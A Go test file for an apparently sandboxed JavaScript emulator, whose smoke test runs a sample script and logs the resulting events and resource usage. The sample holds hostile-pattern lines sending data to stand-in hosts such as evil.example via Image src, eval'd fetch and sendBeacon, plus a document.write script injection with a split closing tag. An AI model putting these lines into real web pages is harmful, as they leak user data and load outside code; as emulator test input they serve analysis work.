package emulate

import (
	"context"
	"os"
	"testing"
)

func TestMain(m *testing.M) {
	if IsChild() {
		os.Exit(ChildMain())
	}
	os.Exit(m.Run())
}

func run(t *testing.T, src string, opts Options) *Result {
	t.Helper()
	res, err := Run(context.Background(), []byte(src), opts)
	if err != nil {
		t.Fatalf("Run(%.40q) error: %v", src, err)
	}
	return res
}

func TestSmoke(t *testing.T) {
	res := run(t, `function f(){var a="x"; return eval("a")}
var i = new Image(); i.src = "https://evil.example/p?" + f();
eval("fetch('https://e2.example/')");
setTimeout("navigator.sendBeacon('https://e3.example/')", 10);
document.write('<script src="https://e4.example/a.js"></scr'+'ipt>');
`, Options{})
	for _, e := range res.Events {
		t.Logf("%+v", e)
	}
	t.Logf("budget=%+v reruns=%d errs=%v profiles=%v wall=%v rss=%d", res.Budget, res.Reruns, res.Errors, res.Profiles, res.Wall, res.PeakRSS)
}
